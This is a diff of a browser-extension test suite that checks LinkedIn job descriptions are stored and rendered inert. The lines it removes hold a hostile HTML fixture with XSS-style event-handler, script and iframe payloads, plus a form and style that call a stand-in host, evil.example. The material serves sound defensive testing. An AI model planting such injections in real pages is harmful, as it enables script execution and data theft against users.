@@ -2,23 +2,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { EXTENSION_DIR, LINKEDIN_FIXTURES, launchExtensionBrowser, type ExtensionBrowser } from './extension-browser';
-import { GUEST, SDUI, TWO_PANE } from './linkedin-samples';
-
-const HOSTILE_URL = 'https://www.linkedin.com/jobs/view/4311111111/';
-
-/** A job whose description tries everything: if any of it ran in the popup, the title changes. */
-const hostilePage = `<!doctype html><html><head><title>Hostile Engineer | Evil Corp | LinkedIn</title></head><body>
-<div class="job-view-layout jobs-details">
-  <div class="job-details-jobs-unified-top-card__company-name"><a href="/company/evil/">Evil Corp</a></div>
-  <div class="job-details-jobs-unified-top-card__job-title"><h1>Hostile Engineer</h1></div>
-  <div id="job-details"><h2>About the job</h2>
-    <p onmouseover="document.title='pwned'">We need Python and <a href="javascript:document.title='pwned'">SQL</a>.</p>
-    <img src="x" onerror="document.title='pwned'"><svg onload="document.title='pwned'"></svg>
-    <script>document.title='pwned'</script><iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
-    <p style="background:url(https://evil.example/track.png)">Requirements: 2+ years of experience.</p>
-    <form action="https://evil.example/steal"><input name="q"><button>Go</button></form>
-  </div>
-</div></body></html>`;
+import { GUEST, HOSTILE, SDUI, TWO_PANE } from './linkedin-samples';
 
 /** The two-pane fixture turned into another job, as LinkedIn renders the pane after a click. */
 const otherPane = () =>
@@ -35,7 +19,7 @@ beforeAll(async () => {
     'https://www.linkedin.com/jobs/search/*': TWO_PANE.html(), // any currentJobId: the SPA switch below
     [SDUI.url]: SDUI.html(),
     'https://www.linkedin.com/jobs/collections/recommended/': '<!doctype html><title>Jobs | LinkedIn</title><main><h2>Recommended for you</h2></main>',
-    [HOSTILE_URL]: hostilePage,
+    [HOSTILE.url]: HOSTILE.html(),
     'https://example.org/about': '<!doctype html><title>About us</title><main><h1>About us</h1><p>We make things.</p></main>',
   });
 });
@@ -149,7 +133,7 @@ describe('capture from the popup', () => {
 
   it('stores and renders a hostile description inert', async () => {
     const page = await b.context.newPage();
-    await page.goto(HOSTILE_URL);
+    await page.goto(HOSTILE.url);
     const popup = await b.popupTab(await b.tabIdOf(page));
     await expect.poll(() => popup.locator('#detail-title').textContent()).toBe('Hostile Engineer');
     await popup.getByText('Description as captured').click();
@@ -159,9 +143,10 @@ describe('capture from the popup', () => {
     await popup.waitForTimeout(300);
     expect(await popup.title()).toBe('Jobsnap');
     expect(await body.locator('script, img, svg, iframe, form, a, [style], [onmouseover]').count()).toBe(0);
-    const saved = await b.waitForPosting('linkedin:4311111111');
+    const saved = await b.waitForPosting(HOSTILE.jobId);
     expect(saved.descriptionHtml).not.toMatch(/<[a-z0-9]+\s[^>]*>/i); // no tag keeps an attribute
-    expect(saved.descriptionHtml).not.toMatch(/script|onerror|javascript:|iframe|evil\.example/i);
+    // Markup written as text stays escaped text; no tag of these kinds, no script URL, no remote URL.
+    expect(saved.descriptionHtml).not.toMatch(/<(script|iframe|img|svg|form|a|style)\b|javascript:|evil\.example/i);
     expect(saved.requirements.skills.map((s) => s.name)).toEqual(expect.arrayContaining(['Python', 'SQL']));
     await popup.close();
     await page.close();
